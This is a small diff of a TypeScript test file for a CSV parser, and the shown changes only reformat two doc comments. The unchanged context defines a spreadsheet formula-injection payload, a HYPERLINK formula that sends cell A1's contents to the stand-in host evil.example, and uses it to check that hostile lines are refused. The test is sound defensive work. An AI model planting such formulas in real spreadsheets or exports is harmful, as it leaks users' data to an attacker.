@@ -13,7 +13,9 @@ import { CSV_FILES } from './stream-csv.ts'
 import { parseCsvRecords, readAll } from './test-parse-csv.ts'
 
 const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
-/** What stands in the columns that are not guarded. A column of words of our own has its words here. */
+/**
+ * What stands in the columns that are not guarded. A column of words of our own has its words here.
+ */
 type ColumnKind = (typeof LINE_COLUMNS)[number]['kind']
 const AMOUNT = /^-?\d+(\.\d+)?$/
 const UNGUARDED: Record<Exclude<ColumnKind, 'text' | 'code'>, RegExp> = {
@@ -46,7 +48,9 @@ beforeAll(async () => {
 })
 afterAll(() => database.drop())
 
-/** A line as the platform sends it, in which every text is the formula, for which the parser stands. */
+/**
+ * A line as the platform sends it, in which every text is the formula, for which the parser stands.
+ */
 function readHostileLine() {
   const wire = replaceTexts(LINE)
   // what has to be an amount, a day or a currency is none then: such a line is not taken at all
